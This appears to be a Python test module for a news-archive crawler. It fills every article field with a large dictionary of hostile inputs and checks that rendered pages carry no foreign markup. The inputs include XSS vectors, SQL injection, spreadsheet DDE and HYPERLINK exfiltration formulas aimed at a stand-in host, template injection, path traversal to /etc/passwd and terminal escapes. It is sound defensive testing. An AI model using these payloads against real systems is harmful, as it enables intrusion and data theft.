"""Hostile text: what a page may say to take over a browser, a terminal, a spreadsheet or SQL.

`PAYLOADS` holds it, `make_hostile` an archive with each in every field, `shown_as_text` what must
be true of a page that shows them.
"""

from __future__ import annotations

import base64
import re
from hashlib import sha256
from typing import TYPE_CHECKING

from selectolax.lexbor import LexborHTMLParser

from crawler.items import Credit, Fate, Image, LedgerEntry, Residue, Role
from pipelines.archive import ArchiveSession
from pipelines.archive.library import sqlite3
from pipelines.datasette.headers import script_hashes
from tests.archives import Clock, stored
from tests.test_stories import FIRST

if TYPE_CHECKING:
    from pathlib import Path

ALERT = "alert('umpan')"
PAYLOADS: dict[str, str] = {
    "script": f"<script>{ALERT}</script>",
    "script in capitals": f"<SCRIPT>{ALERT}</SCRIPT>",
    "script, mixed": f"<ScRiPt >{ALERT}</sCrIpT\n>",
    "script with a source": "<script src=//umpan.example/x.js></script>",
    "script, slash": f"<script/x>{ALERT}</script>",
    "script within itself": f"<scr<script>ipt>{ALERT}</scr</script>ipt>",
    "script, unclosed": f"<script>{ALERT}//",
    "script, entities": f"&lt;script&gt;{ALERT}&lt;/script&gt;",
    "script, numbers": f"&#60;script&#62;{ALERT}&#60;/script&#62;",
    "script, hexadecimal": f"&#x3C;script&#x3E;{ALERT}",
    "script, twice escaped": f"&amp;lt;script&amp;gt;{ALERT}",
    "script, percent": "%3Cscript%3Ealert('umpan')%3C/script%3E",
    "script, escaped for a string": "\\u003cscript\\u003ealert('umpan')\\u003c/script\\u003e",
    "script, UTF-7": "+ADw-script+AD4-alert('umpan')+ADw-/script+AD4-",
    "script, full width": f"＜script＞{ALERT}＜/script＞",
    "script with a null byte": f"<scr\0ipt>{ALERT}</scr\0ipt>",
    "end of a script": f"</script><script>{ALERT}</script>",
    "end of a title": f"</title><script>{ALERT}</script>",
    "end of a textarea": f"</textarea><script>{ALERT}</script>",
    "end of a style": f"</style><script>{ALERT}</script>",
    "end of a pre": f"</pre><img src=x onerror={ALERT}>",
    "end of a comment": f"--><script>{ALERT}</script>",
    "end of another comment": f"--!><img src=x onerror={ALERT}>",
    "beginning of a comment": "<!-- umpan",
    "end of CDATA": f"]]><script>{ALERT}</script>",
    "CDATA": f"<![CDATA[<script>{ALERT}</script>]]>",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?>",
    "XML entities": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "image that fails": f'<img src=x onerror="{ALERT}">',
    "image, no spaces": "<img/src=x/onerror=alert`umpan`>",
    "drawing": f"<svg onload={ALERT}>",
    "drawing, script": f"<svg><script>{ALERT}</script></svg>",
    "drawing, animated": "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "formula": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "body": f"<body onload={ALERT}>",
    "frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "object": "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "embed": "<embed src=javascript:alert(1)>",
    "form": "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x",
    "details": f"<details open ontoggle={ALERT}>",
    "focus": f"<input autofocus onfocus={ALERT}>",
    "video": "<video><source onerror=alert(1)>",
    "base": "<base href=//umpan.example/>",
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "link": "<link rel=stylesheet href=//umpan.example/x.css>",
    "style": "<style>*{background:url(//umpan.example)}</style>",
    "template": f"<template><script>{ALERT}</script></template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={ALERT}>">',
    "plain text": "<plaintext>",
    "doubled quotes": f'" onmouseover="{ALERT}" x="',
    "single quotes": f"' onmouseover='{ALERT}' x='",
    "back quotes": f"` onmouseover={ALERT} `",
    "quotes and a tag": f'"><img src=x onerror={ALERT}>',
    "javascript": "javascript:alert('umpan')",
    "javascript in capitals": "JaVaScRiPt:alert('umpan')",
    "javascript behind a space": " \tjavascript:alert('umpan')",
    "javascript with a line": "java\nscript:alert('umpan')",
    "javascript behind a control": "\x01javascript:alert('umpan')",
    "javascript, entity": "javascript&colon;alert('umpan')",
    "javascript behind http": "javascript://https://umpan.example/%0aalert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "data": "data:text/html,<script>alert('umpan')</script>",
    "data, image": "data:image/svg+xml,<svg onload=alert(1)>",
    "another host": "//umpan.example/x",
    "user in an address": "https://antaranews.com@umpan.example/",
    "address with quotes": "https://umpan.example/\"onclick='alert(1)'x=\"<b>",
    "file": "file:///etc/passwd",
    "text turned": "Harga \u202enaik\u202c turun",
    "text turned, never back": "umpan \u202e\u2066\u2067\u2068",
    "marks of direction": "\u200eumpan\u200f\u061c\u2069",
    "no width": "u\u200bm\u2060p\ufeffan\u00ad",
    "tags that are not seen": "umpan\U000e0001\U000e0041\U000e007f",
    "marks without end": "u" + "\u0336\u0489" * 500,
    "null": "umpan\0umpan",
    "C1": "umpan\x85\x9b31m\x90\x9d0;x\x9c",
    "colours of a terminal": "\x1b[31mumpan\x1b[0m\x1b]0;umpan\x07",
    "link of a terminal": "\x1b]8;;http://umpan.example\x1b\\umpan\x1b]8;;\x1b\\",
    "bell and backspace": "umpan\x07\x08\x08\x7f",
    "no characters": "\ufffe\uffff\ufdd0umpan",
    "private": "\ue000umpan\U000f0000",
    "formula of a spreadsheet": '=HYPERLINK("http://umpan.example?"&A1,"umpan")',
    "formula, plus": "+1+1",
    "formula, minus": "-2+3+cmd|' /C calc'!A0",
    "formula, at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "DDE": "=cmd|' /C calc'!A0",
    "formula behind a tab": "\t=1+1",
    "formula behind a line": "\r\n=1+1",
    "formula, full width": "＝1+1",
    "lines": "umpan\r\nSet-Cookie: umpan=1\r\n\r\n<script>alert(1)</script>",
    "lines of Unicode": "umpan\u2028\u2029\x0b\x0cumpan",
    "template of ours": "{{ 7*'7' }}{{ config }}{% include '/etc/passwd' %}{# x #}",
    "template, worse": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "template of others": "${7*7}#{7*7}<%= 7*7 %>{{=7*7}}%(x)s %s {0}",
    "SQL": "'; DROP TABLE articles; --",
    "SQL, doubled": '" OR 1=1 UNION SELECT value FROM meta --',
    "full-text search": 'NEAR("umpan" *) AND title: ^ {x}',
    "wild cards": "%_*?[a-z]",
    "paths": "../../../../etc/passwd",
    "JSON": '"}],"umpan":[{"x":"',
    "JSON's callback": "*/alert(1);/*",
    "TeX": "\\input{/etc/passwd}}$^_#&~%\\end{document}",
    "Markdown": "[umpan](javascript:alert(1)) ![x](//umpan.example)",
    "nothing that is seen": "\u3164\u115f\u2800",
    "emoji joined": "👩\u200d👩\u200d👧\u200d👦" * 20,
    "a long word": "umpan" * 2000,
    "a very long text": "<b>umpan " * 600_000,
}
"""By what they do. The last one has five megabytes."""
LONG = "a very long text"
SURROGATE = "umpan \ud800 umpan"
"""What no file can hold: the archive must refuse or mend it."""
HOST = "https://bali.antaranews.com"

ELEMENTS = {
    *("html", "head", "body", "title", "meta", "link", "script", "style", "template"),
    *("header", "footer", "main", "nav", "section", "article", "aside", "h1", "h2"),
    *("h3", "h4", "h5", "p", "a", "b", "strong", "em", "i"),
    *("bdi", "span", "div", "ul", "ol", "li", "dl", "dt", "dd"),
    *("table", "thead", "tbody", "tr", "th", "td", "form", "label", "input"),
    *("select", "option", "button", "textarea", "details", "summary", "pre", "code", "time"),
    *("mark", "ins", "del", "br", "svg", "text", "rect", "g", "path"),
    *("circle", "line", "polyline", "abbr", "sup", "sub", "small", "hr", "figure"),
    *(
        "figcaption",
        "img",
        "caption",
        "colgroup",
        "col",
        "blockquote",
        "fieldset",
        "legend",
        "output",
    ),
    "nobr",
}
"""What the pages are made of."""
_ADDRESSES = ("href", "src", "action", "formaction", "data", "poster", "xlink:href", "srcset")
_GOOD = re.compile(r"(?:/(?!/)|[?#]|https?://|$)")


def shown_as_text(page: str) -> None:
    """Assert that a page has no markup but its own.

    An address of the web may be a link: whoever follows it leaves, knowingly.
    """
    tree = LexborHTMLParser(page)
    assert tree.root is not None
    for node in tree.root.traverse(include_text=False):
        tag = node.tag or ""
        if tag.startswith(("-", "!")):  # comments and the doctype
            assert "umpan" not in (node.html or ""), node.html
            continue
        assert tag in ELEMENTS, node.html
        if tag == "script":
            _own_script(node)
        if tag == "style":
            assert "umpan" not in node.text(), node.html
        for name, value in node.attributes.items():
            assert not name.lower().startswith("on"), node.html
            assert name not in ("srcdoc", "http-equiv", "autofocus", "background"), node.html
            if name in _ADDRESSES:
                assert _GOOD.match(value or ""), node.html
                assert name in ("href", "src", "action"), node.html
                if tag != "a" and not (value or "").startswith("http://localhost/"):
                    assert not (value or "").startswith("http"), node.html


def _own_script(node) -> None:
    source = node.attributes.get("src")
    if source is not None:
        assert source.startswith("/-/static"), node.html
        return
    digest = base64.b64encode(sha256(node.text().encode()).digest()).decode()
    assert digest in script_hashes(), node.html


def make_hostile(path: Path, origin: str = "live") -> dict[str, int]:
    """Make an archive in which each payload stands in every field; returns their numbers.

    All articles are one story. Each has a second state with the payload elsewhere.
    """
    clock = Clock("2026-11-23T10:00:00Z")
    numbers = {name: at for at, name in enumerate(PAYLOADS, 1)}
    with ArchiveSession.claim(path, origin, clock=clock) as session:
        session.open()
        session.begin_run("crawl latest", {})
        for name, number in numbers.items():
            session.store([_hostile(number, PAYLOADS[name], clock.now)])
        clock.now = "2026-11-24T10:00:00Z"
        for name, number in numbers.items():
            if name != LONG:
                session.store([_changed(number, PAYLOADS[name], clock.now)])
        session.finish_walk("bali", "2026-01-01T00:00:00Z", "2026-11-24T00:00:00Z")
        session.finish_run("finished", {"bali": {"stored": len(numbers), "gone": 0}})
    _name_bureau(path, PAYLOADS["script"])
    return numbers


def _changed(number: int, payload: str, now: str):
    """Return an article's second state: the payload in other words, credits and tags."""
    return _hostile(
        number,
        payload,
        now,
        title=f"Ralat {number}: {payload}",
        subtitle=f"{payload} lagi",
        text="\n\n".join([*FIRST[:-1], f"kata{number} {payload} sekarang", f"baru {payload}"]),
        credits=[Credit(Role.REPORTER, payload, payload), Credit(Role.AUTHOR, f"B {payload}", "x")],
        tags=[payload, f"tag{number}", f"dua {payload}"],
    )


def _name_bureau(path: Path, payload: str) -> None:
    """Give the bureau a hostile title and province; ours come from a file of the program's."""
    conn = sqlite3.connect(str(path))
    try:
        conn.execute("UPDATE bureaus SET title = ?1, province = ?1 || ' x'", (payload,))
        conn.commit()
    finally:
        conn.close()


def _hostile(number: int, payload: str, now: str, **changes):
    fields = {
        "title": payload,
        "subtitle": payload,
        "url": f"{HOST}/berita/{number}/{payload}" if number % 2 else payload,
        "text": "\n\n".join([*FIRST, f"kata{number} {payload}", payload]),
        "dateline_place": payload,
        "source_label": payload,
        "category": payload,
        "tags": [payload, f"tag{number}"],
        "images": [Image(payload, payload, payload), Image(f"https://x.example/{payload}")],
        "credits": [Credit(Role.REPORTER, payload, payload), Credit(Role.EDITOR, payload, "x")],
        "pull_quote": payload,
        "copyright": payload,
        "rights_notice": payload,
        "etag": payload,
        "last_modified": payload,
        "ledger": [LedgerEntry(Fate.REMOVED, Residue.SCRIPT, payload, len(payload))],
        "provenance": {"title": payload},
        "published_utc": f"2026-11-20T{number % 24:02}:30:00Z",
        "fetched_at": now,
    }
    if len(payload) > 1_000_000:  # once is enough, and in no story: each would be compared
        # A table reads both, and what it may read has a bound.
        fields = {"title": payload[:2_000_000], "text": f"kata{number} {payload}"}
        fields["fetched_at"] = now
    return stored(number, **{**fields, **changes})
